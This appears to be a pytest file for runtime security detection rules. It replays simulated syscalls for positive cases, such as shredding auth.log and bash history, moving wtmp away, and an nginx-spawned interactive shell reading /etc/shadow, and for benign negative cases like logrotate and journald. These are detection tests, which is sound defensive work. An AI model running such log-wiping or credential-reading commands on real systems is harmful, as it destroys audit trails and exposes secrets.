def log_unlinked_with_old_syscall() -> tuple[Capture, dict[str, Any]]:
    c = host("perl", "/usr/bin/perl")
    c.unlink(200, "/var/log/lastlog")
    return c, {"evt.type": "unlink", "proc.name": "perl"}


@fires(LOGS)
def log_moved_away() -> tuple[Capture, dict[str, Any]]:
    c = host("mv", "/usr/bin/mv", ["/var/log/wtmp", "/tmp/w"])
    c.renameat2(200, "/var/log/wtmp", "/tmp/w")
    return c, {"fs.path.source": "/var/log/wtmp"}


@fires(LOGS)
def log_shredded() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/bin/shred", ["-u", "/var/log/auth.log"])
    return c, {"proc.name": "shred", "proc.cmdline": "shred -u /var/log/auth.log"}


@silent(LOGS)
def logrotate_and_compression() -> Capture:
    c = Capture()
    c.process(700, "logrotate", "/usr/sbin/logrotate", ["/etc/logrotate.conf"])
    c.renameat2(700, "/var/log/syslog", "/var/log/syslog.1")
    c.process(701, "gzip", "/usr/bin/gzip", ["-9", "/var/log/syslog.2"], ptid=700)
    c.unlinkat(701, "/var/log/syslog.2")
    return c


@silent(LOGS)
def loggers_append() -> Capture:
    c = Capture()
    c.process(710, "rsyslogd", "/usr/sbin/rsyslogd", ["-n"])
    c.openat(710, "/var/log/syslog", O_WRONLY | O_APPEND | O_CREAT, 7)
    c.process(720, "bash", "/usr/bin/bash")
    c.openat(720, "/var/log/app.log", O_WRONLY | O_APPEND | O_CREAT, 3)
    c.unlinkat(720, "/var/log/missing.log", res=-2)
    return c


@silent(LOGS)
def journald_vacuums() -> Capture:
    c = Capture()
    c.process(730, "systemd-journal", "/usr/lib/systemd/systemd-journald")
    c.unlinkat(730, "/var/log/journal/0123/system@0001.journal")
    return c


@fires(HISTORY)
def bash_history_removed() -> tuple[Capture, dict[str, Any]]:
    c = in_container("rm", "/bin/rm", ["/root/.bash_history"])
    c.unlinkat(300, "/root/.bash_history")
    return c, {"fs.path.name": "/root/.bash_history", "proc.name": "rm", "container.id": WEB.id}


@fires(HISTORY)
def zsh_history_moved_away() -> tuple[Capture, dict[str, Any]]:
    c = host("mv", "/usr/bin/mv", uid=1000)
    c.renameat2(200, "/home/alice/.zsh_history", "/tmp/z")
    return c, {"fs.path.source": "/home/alice/.zsh_history", "user.name": "alice"}


@fires(HISTORY)
def history_truncated_by_a_program() -> tuple[Capture, dict[str, Any]]:
    c = host("cp", "/usr/bin/cp", ["/dev/null", "/root/.bash_history"])
    c.openat(200, "/root/.bash_history", W_NEW, 4)
    return c, {"fd.name": "/root/.bash_history", "proc.name": "cp"}


@fires(HISTORY)
def history_shredded() -> tuple[Capture, dict[str, Any]]:
    c = host("bash", "/usr/bin/bash")
    c.execve(200, "/usr/bin/shred", ["-zu", "/root/.bash_history"])
    return c, {"proc.name": "shred"}


@silent(HISTORY)
def shells_save_their_history() -> Capture:
    c = host("bash", "/usr/bin/bash")
    c.openat(200, "/root/.bash_history", W_NEW, 3)
    c.process(210, "zsh", "/usr/bin/zsh", ptid=150, uid=1000)
    c.openat(210, "/home/alice/.zsh_history.new", W_NEW, 3)
    c.renameat2(210, "/home/alice/.zsh_history.new", "/home/alice/.zsh_history")
    return c


@silent(HISTORY)
def similarly_named_file_removed() -> Capture:
    c = host("rm", "/usr/bin/rm", ["/root/.bash_history_backup"])
    c.unlinkat(200, "/root/.bash_history_backup")
    return c


# --- the tests ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("rule", "make"), [(r, f) for r, _, f in POSITIVE], ids=[n for _, n, _ in POSITIVE])
def test_rule_fires(rule: str, make: Case, ruleset: Any, tmp_path: Path) -> None:
    cap, expect = make()
    alerts = cap.alerts(tmp_path, ruleset)
    alert = only(alerts, rule)
    fields = alert["output_fields"]
    for k in KEY_FIELDS:
        assert k in fields, k
    assert {k: fields.get(k) for k in expect} == expect
    assert alert["source"] == "syscall" and alert["hostname"] == "node-1"
    assert any(t.startswith("mitre_") for t in alert["tags"])


@pytest.mark.parametrize(("rule", "make"), [(r, f) for r, _, f in NEGATIVE], ids=[n for _, n, _ in NEGATIVE])
def test_benign_variant_is_silent(rule: str, make: Callable[[], Capture], ruleset: Any, tmp_path: Path) -> None:
    alerts = make().alerts(tmp_path, ruleset)
    assert fired(alerts) == []


def test_every_rule_has_a_positive_and_a_negative_case(ruleset: Any) -> None:
    names = {r.name for r in ruleset.rules}
    assert {r for r, _, _ in POSITIVE} == names
    assert {r for r, _, _ in NEGATIVE} == names


def test_rae_replay_default_rules_first_match(tmp_path: Path) -> None:
    """End to end through `rae replay` with the default rules (no -r) and Falco's default
    rule_matching (first): a web server's interactive shell is reported once, by the most
    specific rule, as a Falco JSON alert."""
    c = web()
    c.execve(100, "/bin/bash", ["-i"], tty=34816)
    c.openat(100, "/etc/shadow", O_RDONLY, 3)
    alerts = replay_file(c.write(tmp_path / "web.scap"), matching="first")
    assert fired(alerts) == [TERMINAL, READ]
    a = alerts[0]
    assert a["priority"] == "Notice" and "mitre_execution" in a["tags"] and "T1059" in a["tags"]
    assert a["output_fields"]["container.id"] == WEB.id and a["output_fields"]["proc.pname"] == "nginx"
    assert ": Notice Terminal shell started in a container (proc=bash cmdline=bash -i parent=nginx " in a["output"]
    assert {"time", "rule", "priority", "output", "output_fields", "source", "tags", "hostname"} <= set(a)
    # with rule_matching: all, the generic shell rule reports the same exec too
    assert fired(replay_file(tmp_path / "web.scap", matching="all")) == [TERMINAL, SHELL, READ]

